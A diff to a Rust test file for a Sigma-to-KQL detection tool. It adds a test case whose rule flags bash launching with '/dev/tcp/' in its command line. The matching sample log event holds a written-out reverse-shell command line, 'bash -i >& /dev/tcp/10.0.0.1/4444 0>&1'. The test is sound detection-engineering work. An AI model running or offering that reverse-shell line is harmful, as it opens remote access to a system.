@@ -16,6 +16,9 @@ use sigmaplay_core::{kusto, parse_rule, Placeholders};
 
 use common::{compare_with_kql_run, kql_run, shared};
 
+/// kql-run's cases for one target, and our evaluator's answer per case id.
+type Oracle = (Vec<String>, BTreeMap<String, Vec<usize>>);
+
 struct Case {
     name: &'static str,
     rule: &'static str,
@@ -154,6 +157,19 @@ fn cases() -> Vec<Case> {
             misses: vec![json!({"csMethod": "POST", "csUriQuery": "x=/mgmt/tm/util/bash", "scStatus": "404", "sPort": 443})],
         },
         Case {
+            name: "sysmon-linux",
+            rule: "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /bash\n    CommandLine|contains: '/dev/tcp/'\n  filter:\n    ParentImage: /usr/sbin/cron\n  condition: sel and not filter\n",
+            table: "Syslog",
+            // Sysmon for Linux's event 1 as it reaches Syslog: the XML in SyslogMessage, `&` escaped.
+            hits: vec![json!({"ProcessName": "sysmon", "Facility": "user", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>1</EventID><Version>5</Version></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"ProcessId\">4242</Data><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -i &gt;&amp; /dev/tcp/10.0.0.1/4444 0&gt;&amp;1</Data><Data Name=\"ParentImage\">/usr/bin/python3</Data></EventData></Event>"})],
+            misses: vec![
+                json!({"ProcessName": "sysmon", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -c /dev/tcp/x</Data><Data Name=\"ParentImage\">/usr/sbin/cron</Data></EventData></Event>"}),
+                // The same values in another event (5, process terminated) are not a process creation.
+                json!({"ProcessName": "sysmon", "SyslogMessage": "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>5</EventID></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash /dev/tcp/x</Data></EventData></Event>"}),
+                json!({"ProcessName": "sshd", "SyslogMessage": "Image /usr/bin/bash /dev/tcp/"}),
+            ],
+        },
+        Case {
             name: "syslog",
             rule: "title: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  keywords:\n    - 'error in libcrypto'\n  condition: keywords\n",
             table: "Syslog",
@@ -166,7 +182,7 @@ fn cases() -> Vec<Case> {
 #[test]
 fn native_table_rows_match_as_the_rule_says() {
     let mut failures = Vec::new();
-    let mut oracle: BTreeMap<&str, (Vec<String>, BTreeMap<String, Vec<usize>>)> = BTreeMap::new();
+    let mut oracle: BTreeMap<&str, Oracle> = BTreeMap::new();
     for target in ["azure_monitor", "sentinel_asim"] {
         let Some(p) = sigmaplay_core::pipeline::builtin(target) else { panic!("{target}") };
         for c in cases() {
